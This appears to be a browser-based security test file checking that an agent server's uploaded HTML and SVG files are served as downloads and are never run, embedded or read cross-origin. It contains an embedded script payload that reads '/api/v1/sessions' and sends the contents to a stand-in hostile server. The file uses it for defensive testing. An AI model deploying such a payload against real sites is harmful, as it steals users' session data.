import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { openBrowser, type TestBrowser } from '../support/browser/browser.ts'
import { type RunningTestServer, startServer } from '../support/server.ts'

let chromium: TestBrowser
let server: RunningTestServer
let hostile: { url: string; told: string[]; serve(file: string): void; close(): Promise<void> }

beforeAll(async () => {
  chromium = await openBrowser()
  server = await startServer()
  hostile = await startHostile()
})

afterAll(async () => {
  await Promise.all([chromium?.close(), server?.close(), hostile?.close()])
})

/** Somebody else's server: it hears what the scripts tell, has the pages that show the files, and serves files as pages. */
async function startHostile() {
  const told: string[] = []
  let served = ''
  const listener: Server = createServer((request, response) => {
    const { pathname, searchParams } = new URL(request.url ?? '', 'http://hostile')
    if (pathname === '/told') told.push(searchParams.get('of') ?? '')
    const file = pathname === '/file' ? served : undefined
    const type = file?.startsWith('<svg') ? 'image/svg+xml' : 'text/html'
    response.setHeader('Access-Control-Allow-Origin', '*')
    response
      .writeHead(200, { 'Content-Type': type })
      .end(file ?? '<!doctype html><link rel="icon" href="data:,"><body>')
  })
  await new Promise<void>((listening) => listener.listen(0, '127.0.0.1', listening))
  return {
    url: `http://127.0.0.1:${(listener.address() as AddressInfo).port}`,
    told,
    serve(file: string) {
      served = file
    },
    close: () =>
      new Promise<void>((closed) => {
        listener.close(() => closed())
        listener.closeAllConnections()
      }),
  }
}

/** Tells at once that it runs and where, and then the sessions that it can read. */
const script = () => `
  const tell = (what) => fetch('${hostile.url}/told?of=' + encodeURIComponent(what), { mode: 'no-cors' })
  tell('ran in ' + origin)
  fetch('/api/v1/sessions').then((answer) => answer.text()).then(tell)`

const kinds = {
  html: { media_type: 'text/html', content: () => `<!doctype html><script>${script()}</script>` },
  svg: {
    media_type: 'image/svg+xml',
    content: () => `<svg xmlns="http://www.w3.org/2000/svg"><script><![CDATA[${script()}]]></script></svg>`,
  },
}
type Kind = keyof typeof kinds

async function upload(kind: Kind): Promise<string> {
  const { media_type, content } = kinds[kind]
  const file = { type: 'file', media_type, name: `evil.${kind}`, data: btoa(content()) }
  const { json } = await server.call('POST', '/api/v1/agents/echo/run', { input: { parts: [file] } })
  return `${server.url}/api/v1/sessions/${json.session_id}/files/${json.messages[0].parts[0].file_id}`
}

/** A function of the page: it adds an element and resolves with the event that comes first. */
const adding = `(tag, attribute, url) => new Promise((resolve) => {
  const element = document.createElement(tag)
  element.onload = () => resolve('load')
  element.onerror = () => resolve('error')
  element.setAttribute(attribute, url)
  document.body.append(element)
})`
const add = (tag: string, attribute: string) => async (tab: Page, url: string) =>
  tab.evaluate(`void (${adding})('${tag}', '${attribute}', '${url}')`)

/** The ways in which a page shows what is at an address and lets it run its scripts. */
const ways: Record<string, (tab: Page, url: string) => Promise<unknown>> = {
  'goes to it': (tab, url) => tab.evaluate(`void setTimeout(() => location.assign('${url}'))`),
  'has it in an <iframe>': add('iframe', 'src'),
  'has it in an <object>': add('object', 'data'),
  'has it in an <embed>': add('embed', 'src'),
}

async function onHostilePage<T>(work: (tab: Page) => Promise<T>): Promise<T> {
  const context = await chromium.browser.newContext()
  try {
    const tab = await context.newPage()
    await tab.goto(hostile.url)
    hostile.told.length = 0
    return await work(tab)
  } finally {
    await context.close()
  }
}

/** What scripts have told until now. */
async function toldIn(tab: Page): Promise<string[]> {
  await tab.evaluate(`fetch('${hostile.url}/told?of=the+end').then(() => {})`)
  return hostile.told
}

describe.each(Object.keys(kinds) as Kind[])('an uploaded %s file with a script', (kind) => {
  test.each(Object.keys(ways))('is downloaded and does not run when a page %s', async (way) => {
    const url = await upload(kind)
    await onHostilePage(async (tab) => {
      const [download] = await Promise.all([tab.waitForEvent('download'), ways[way]?.(tab, url)])
      expect(download.suggestedFilename()).toBe(`evil.${kind}`)
      expect(tab.frames().map((frame) => frame.url())).not.toContain(url)
      expect(await toldIn(tab)).toEqual(['the end'])
    })
  })

  test.each(Object.keys(ways))('would run from a careless server when a page %s', async (way) => {
    hostile.serve(kinds[kind].content())
    await onHostilePage(async (tab) => {
      await ways[way]?.(tab, `${hostile.url}/file`)
      await expect.poll(() => hostile.told).toContain(`ran in ${hostile.url}`)
    })
  })

  test('is nothing for other pages to show as a picture, to run or to read', async () => {
    const url = await upload(kind)
    await onHostilePage(async (tab) => {
      for (const tag of ['img', 'script']) {
        const ended = tab.evaluate(`(${adding})('${tag}', 'src', '${url}')`)
        expect([tag, await ended]).toEqual([tag, 'error'])
      }
      const read = tab.evaluate(`fetch('${url}').then((answer) => answer.text())`)
      await expect(read).rejects.toThrow('Failed to fetch')
      expect(await toldIn(tab)).toEqual(['the end'])
    })
  })
})
